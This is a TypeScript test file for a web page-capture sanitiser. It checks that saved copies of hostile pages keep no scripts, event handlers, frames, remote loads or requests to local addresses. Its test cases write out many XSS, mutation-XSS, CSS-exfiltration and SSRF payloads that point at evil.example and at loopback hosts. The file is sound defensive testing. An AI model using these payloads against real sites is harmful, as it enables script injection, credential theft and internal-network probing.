import fc from 'fast-check';
import { parse, serialize } from 'parse5';
import { afterEach, describe, expect, it } from 'vitest';
import { toAllowedHtml } from './allowed-html.js';
import { cleanHtml } from './clean-html.js';
import { pageCapturer } from './page-capture.js';
import { parseHtml } from './parse-html.js';
import { restless } from './restless.fixture.js';
import { type Answer, page, type Site, site } from './site.fixture.js';

// T4, T13: a page is anybody's, and its copy stands on the issuer's host.
let here: Site | undefined;
afterEach(() => here?.close());
const open = async (pages: Readonly<Record<string, Answer>>): Promise<Site> => {
  here = await site(pages);
  return here;
};

describe('a hostile page', () => {
  it.each([
    [
      'scripts',
      '<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><script>alert(1)</script></svg><a href="javascript:alert(1)">x</a><a href=" java\tscript:alert(1)">x</a>',
    ],
    [
      'frames',
      '<iframe src="//evil.example"></iframe><iframe srcdoc="<script>1</script>"></iframe><object data="//evil.example"></object><embed src="//evil.example"><portal src="//evil.example"></portal>',
    ],
    [
      'a refresh and a policy of its own',
      '<meta http-equiv="refresh" content="0;url=https://evil.example"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=set-cookie content="a=b">',
    ],
    [
      'forms',
      '<form action="https://evil.example" method=post><input name=password autofocus onfocus=alert(1)><button formaction="//evil.example" formtarget=_blank>Log in</button><input type=image src="//evil.example/x"></form>',
    ],
    [
      'other ways to load',
      '<img srcset="//evil.example/a 1x"><video poster="//evil.example/p" src="//evil.example/v"></video><body background="//evil.example/b"><table background="//evil.example/t"><link rel=preload href="//evil.example/l" as=image><link rel="prefetch stylesheet" href="//evil.example/s.css"><a href="https://ok.example" ping="//evil.example">x</a>',
    ],
    [
      'SVG',
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="//evil.example/s.svg#a"/><use xlink:href="data:image/svg+xml,<svg id=x/>#x"/><image href="//evil.example/i"/><set attributeName=href to="javascript:alert(1)"/><animate attributeName="href" values="javascript:alert(1)"/><rect fill="url(//evil.example/p#a)" filter=\'u\\72l("//evil.example/f")\'/><foreignObject><iframe src="//evil.example"></iframe></foreignObject><feImage href="//evil.example"/></svg>',
    ],
    [
      'style sheets',
      '<style>@import url(//evil.example/a);@import "//evil.example/b";a{background:url(//evil.example/c)}b{background:image-set("//evil.example/d" 1x)}c{background:u\\72l("//evil.example/e")}@font-face{src:url(//evil.example/f)}</style><p style="background:url(//evil.example/g);--x:url(//evil.example/h)">x',
    ],
    [
      'an end tag in a style sheet',
      '<style>a{content:"<\\/style><script>alert(1)</script>"}</style><svg><style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style></svg>',
    ],
    [
      'text that reads otherwise with scripts on',
      '<noscript><p title="</noscript><script>alert(1)</script>"></p></noscript><template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><!--[if IE]><script>alert(1)</script><![endif]-->',
    ],
    [
      'other vocabularies',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ],
    [
      'unknown elements with known attributes',
      '<x-y src="//evil.example" href="//evil.example" data="//evil.example" onclick=alert(1) style="background:url(//evil.example)">x</x-y>',
    ],
  ])('is still in its copy: %s', async (_, body) => {
    const { copy } = await open({ '/': page(body) });
    const text = await copy();
    expect(restless(text)).toEqual([]);
    // Serialised and read once more it is the same: nothing waits in it for another reader.
    expect(restless(serialize(parse(text)))).toEqual([]);
    expect(text.replace(/A copy of .*? as it was/, '')).not.toMatch(/evil\.example/);
  });

  it.each([
    ['a portal', '<portal src="//evil.example">shown</portal>'],
    ['a fenced frame', '<fencedframe src="//evil.example" config="x">shown</fencedframe>'],
    ['an element that HTML may get one day', '<hologram src="//evil.example" href="//evil.example" onproject="go()">shown</hologram>'],
    ['an element that SVG may get one day', '<svg><loader href="//evil.example/x.svg#a"/><text>shown</text></svg>'],
    ['an animation by another name', '<svg><rect><morph attributeName="href" to="//evil.example"/></rect><text>shown</text></svg>'],
    ['a popover', '<button popovertarget="evil" popovertargetaction="show">shown</button><div popover id="evil-0">x</div>'],
    ['a command', '<button commandfor="evil" command="show-modal">shown</button>'],
    ['an interest', '<a interestfor="evil" href="#x">shown</a>'],
    ['an address to send to', '<button formaction="//evil.example" formmethod="post">shown</button>'],
    ['an address to tell', '<a ping="//evil.example" attributionsrc="//evil.example" href="#x">shown</a>'],
    ['an event that browsers may get one day', '<p onquantumentangle="evil()" ontouchless=evil()>shown</p>'],
    ['an attribute that may load one day', '<img alt="" src2="//evil.example/a.png" lazysrc="//evil.example/a.png">shown'],
    [
      'a template that makes a shadow tree',
      '<div><template shadowrootmode="open" shadowrootclonable><img src="//evil.example"></template>shown</div>',
    ],
    ['speculation', '<script type="speculationrules">{"prefetch":[{"urls":["//evil.example"]}]}</script>shown'],
    [
      'a picture in an attribute of SVG',
      `<svg><rect mask="image-set('//evil.example/m' 1x)" fill="src('//evil.example/f')"/><text>shown</text></svg>`,
    ],
    ['a custom element that wants to be more', '<x-player src="//evil.example" onplay="evil()" is="x-evil" slot="evil">shown</x-player>'],
    ['a name of SVG with a hyphen', '<svg><font-face-uri href="//evil.example"/><text>shown</text></svg>'],
  ])('loses what nobody allowed, and keeps its words: %s', async (_, body) => {
    const { copy, asked } = await open({ '/': page(body) });
    const text = await copy();
    expect(text).toContain('shown');
    expect(restless(text)).toEqual([]);
    expect(text).not.toMatch(/evil(?!-0)|popover|command|interest|formaction|ping=|\son\w|src2|lazysrc|shadowroot|speculation|quantum/);
    expect(asked.filter((path) => path !== '/')).toEqual([]);
  });

  it('keeps custom elements, whose style the page may name, and nothing else that it made up', async () => {
    const { copy } = await open({
      '/': page('<my-card class="c">a</my-card><mycard class="c">b</mycard>', '<style>my-card{color:red}</style>'),
    });
    const text = await copy();
    expect(text).toContain('<my-card class="c">a</my-card>b<p>');
    expect(text).toContain('<style>my-card{color:red}</style>');
  });

  it('has no more of an element than its words, however many of them stand inside each other', async () => {
    const { copy } = await open({ '/': page(`${'<wrap>'.repeat(200)}${'x<br>'.repeat(60_000)}`) });
    expect((await copy()).match(/<br>/g)).toHaveLength(60_000);
  });

  it('begins with a policy that lets nothing run or load, for a copy that somebody saved', async () => {
    const { copy } = await open({ '/': page('<p>x', '<script>1</script><meta charset="utf-7">') });
    expect((await copy()).replaceAll('&#x27;', "'")).toMatch(
      /^<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:;/,
    );
  });

  it('cannot use a style sheet of its own to run out of the style element', async () => {
    const { copy } = await open({
      '/': page('<p>x', '<link rel=stylesheet href="/s.css">'),
      '/s.css': ['text/css', 'a{content:"</style><script>alert(1)</script><!--"}'],
    });
    const text = await copy();
    expect(restless(text)).toEqual([]);
    expect(text).not.toContain('<script');
  });

  it('names no base of its own, and none on this machine', async () => {
    const { copy } = await open({
      '/': page('<img src="x.png"><a href="y">y</a>', '<base href="javascript:alert(1)"><base target="_top">'),
    });
    const text = await copy();
    expect(text).not.toMatch(/<base|javascript|_top/);
  });

  it('of a public host gets nothing asked of this machine, though development allows it (T4)', async () => {
    const asked: string[] = [];
    const inside = [
      'localhost:1/a',
      '127.0.0.1:1/b',
      '127.1:1/c',
      '2130706433:1/d',
      '[::1]:1/e',
      '[::ffff:127.0.0.1]:1/f',
      'a.localhost/g',
      'LOCALHOST./h',
    ];
    const body = inside
      .map((host) => `<img src="http://${host}"><b style="background:url(//${host}x)"></b><style>@import "http://${host}y";</style>`)
      .join('');
    const http = {
      async request({ url }: { readonly url: string }) {
        asked.push(url);
        const answer = { ok: true, url, status: 200, mediaType: 'text/html', etag: null, headers: {} } as const;
        return { ...answer, body: Buffer.from(`${body}<p>${'text '.repeat(50)}`) };
      },
    };
    expect(await pageCapturer(http, () => new Date(0)).capture('https://ada.example/')).toMatchObject({ ok: true });
    expect(asked.filter((url) => !/^https:\/\/ada\.example\//.test(url))).toEqual([]);
  });

  it('whatever it is made of, is still', async () => {
    const piece = fc.constantFrom(
      '<svg>',
      '</svg>',
      '<style>',
      '</style>',
      '<a href="javascript:1">',
      '<img src=x onerror=1>',
      '<math>',
      '<mtext>',
      '<table>',
      '<td>',
      '<noscript>',
      '</noscript>',
      '<title>',
      '</title>',
      '<textarea>',
      '</textarea>',
      '<!--',
      '-->',
      '<template>',
      '<foreignObject>',
      '<desc>',
      '&lt;script&gt;',
      '<script>',
      '</script>',
      '<p title="</style><script>">',
      '<use href="http://x/y">',
      '<![CDATA[',
      ']]>',
      '<select>',
      '<option>',
      '<form action=x>',
      '<body onload=1>',
      '<frameset>',
      '<xmp>',
      '@import "x";',
      'text',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 25 }), async (pieces) => {
        const document = await parseHtml(pieces.join(''));
        const { customElements } = cleanHtml(document, 'https://ada.example/');
        const text = toAllowedHtml(document, customElements);
        expect(restless(text).filter((each) => !each.startsWith('meta'))).toEqual([]);
        expect(restless(serialize(parse(text))).filter((each) => !each.startsWith('meta'))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
